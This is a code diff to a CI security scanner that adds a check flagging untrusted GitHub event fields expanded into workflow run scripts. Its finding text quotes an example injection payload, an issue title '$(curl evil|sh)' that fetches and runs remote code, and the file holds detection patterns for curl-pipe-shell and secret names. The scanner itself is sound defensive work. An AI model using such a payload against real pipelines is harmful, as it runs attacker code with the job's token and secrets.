@@ -3,7 +3,8 @@
 GitHub: secrets echoed in ``run`` scripts (directly or through an ``env``
 variable that holds a secret), actions not pinned to a commit SHA,
 ``pull_request_target`` workflows that check out the pull request's head,
-and ``curl | sh``. GitLab: secret variables echoed in ``script``, ``curl | sh``.
+untrusted event fields (issue titles, PR bodies, head refs) expanded into ``run``
+scripts, and ``curl | sh``. GitLab: secret variables echoed in ``script``, ``curl | sh``.
 """
 
 from __future__ import annotations
@@ -24,6 +25,12 @@ _SHA = re.compile(r"^[0-9a-f]{40}$")
 _ECHO = re.compile(r"\b(?:echo|printf|print|cat\s+<<<|Write-Host|Write-Output)\b")
 _SECRET_EXPR = re.compile(r"\$\{\{\s*secrets\.[A-Za-z0-9_]+\s*\}\}")
 _SECRET_VAR_NAME = re.compile(r"(?i)passw|secret|token|api_?key|private_?key|credential")
+_UNTRUSTED = re.compile(
+    r"\$\{\{[^}]*github\.(?:event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref"
+    r"|head\.label|head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body"
+    r"|pages\.[^}]*\.page_name|commits\.[^}]*\.(?:message|author\.(?:email|name))"
+    r"|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.head_branch)|head_ref)"
+)
 _HEAD_REF = re.compile(r"github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref")
 
 
@@ -50,6 +57,15 @@ PR_TARGET_CHECKOUT = _check(
     "Use the pull_request event for untrusted code, or do not check out the head ref in "
     "pull_request_target workflows.",
 )  # fmt: skip
+EXPRESSION_INJECTION = _check(
+    "ci.expression-injection",
+    "Untrusted event data expanded into a run script",
+    Severity.HIGH,
+    "${{ github.event.issue.title }} (and other attacker-controlled fields) is pasted into "
+    "the shell script before it runs: a title like $(curl evil|sh) runs with the job's "
+    "token and secrets.",
+    'Pass the value through env: (TITLE: ${{ github.event.issue.title }}) and use "$TITLE".',
+)
 CI_PIPE_SHELL = _check(
     "ci.curl-pipe-shell", "Downloaded script piped into a shell in CI", Severity.HIGH,
     "curl | sh in CI runs unverified remote code with the pipeline's credentials.",
@@ -83,6 +99,8 @@ def _script_findings(
                 findings.append(SECRET_ECHOED.at(location))
         if PIPE_TO_SHELL.search(text):
             findings.append(CI_PIPE_SHELL.at(location))
+        if _UNTRUSTED.search(text):
+            findings.append(EXPRESSION_INJECTION.at(location))
     return findings
 
 
